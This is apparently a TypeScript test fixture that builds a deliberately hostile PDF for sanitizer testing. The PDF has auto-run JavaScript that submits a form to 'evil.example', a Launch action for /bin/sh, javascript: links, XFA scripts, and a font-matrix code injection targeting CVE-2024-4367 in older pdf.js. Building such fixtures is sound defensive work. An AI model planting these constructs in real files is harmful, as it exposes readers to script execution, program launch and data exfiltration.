import {
  beginText,
  endText,
  type PDFContext,
  PDFDocument,
  PDFHexString,
  PDFName,
  type PDFRef,
  PDFString,
  StandardFonts,
  setFontAndSize,
  showText,
} from '@cantoo/pdf-lib';
import type { SampleDocument } from '#server/testing/sample-documents/sample-documents.ts';

/** PDF that tries to run scripts (also by a form or a font), start a program, send a form and navigate. */
export async function makeMaliciousPdf(): Promise<SampleDocument> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([300, 300]);
  page.drawText('quiet text', { x: 50, y: 200, font: await pdf.embedFont(StandardFonts.Helvetica) });
  const { context, catalog } = pdf;
  const script = context.obj({
    S: 'JavaScript',
    JS: PDFString.of("app.alert('deed'); this.submitForm('https://evil.example/f')"),
  });
  const launch = context.obj({ S: 'Launch', F: PDFString.of('/bin/sh') });
  const leave = context.obj({ S: 'URI', URI: PDFString.of("javascript:alert('deed')") });
  catalog.set(PDFName.of('OpenAction'), script);
  catalog.set(PDFName.of('AA'), context.obj({ WC: script, O: launch }));
  catalog.set(
    PDFName.of('Names'),
    context.obj({ JavaScript: context.obj({ Names: [PDFString.of('deed'), script] }) }),
  );
  page.node.set(PDFName.of('AA'), context.obj({ O: script }));
  catalog.set(
    PDFName.of('AcroForm'),
    context.obj({ Fields: [], XFA: makeXfaFormWithScript(context), CO: [] }),
  );
  page.node.setFontDictionary(PDFName.of('Deed'), context.register(makeFontWithScript(context)));
  page.pushOperators(
    beginText(),
    setFontAndSize('Deed', 12),
    showText(PDFHexString.fromText('x')),
    endText(),
  );
  const link = (action: typeof leave, bottom: number) =>
    context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [50, bottom, 250, bottom + 40], A: action });
  page.node.set(PDFName.of('Annots'), context.obj([link(leave, 180), link(launch, 100), link(script, 40)]));
  return { name: 'hostile.pdf', mimeType: 'application/pdf', buffer: Buffer.from(await pdf.save()) };
}

/** Font matrix that older versions of pdf.js compiled as code (CVE-2024-4367). */
function makeFontWithScript(context: PDFContext) {
  return context.obj({
    Type: 'Font',
    Subtype: 'Type1',
    BaseFont: 'ABCDEF+Deed',
    FirstChar: 0,
    LastChar: 255,
    Widths: Array(256).fill(500),
    FontMatrix: [1, 0, 0, 1, 0, PDFString.of("0); alert('deed'")],
  });
}

/** XFA form, which may contain scripts. */
function makeXfaFormWithScript(context: PDFContext): PDFRef {
  const script = '<script contentType="application/x-javascript">app.alert("deed")</script>';
  const form = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f"><event activity="initialize">${script}</event><draw><value><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><a href="javascript:alert(1)">x</a></body></exData></value></draw></subform></template></xdp:xdp>`;
  return context.register(context.stream(form));
}
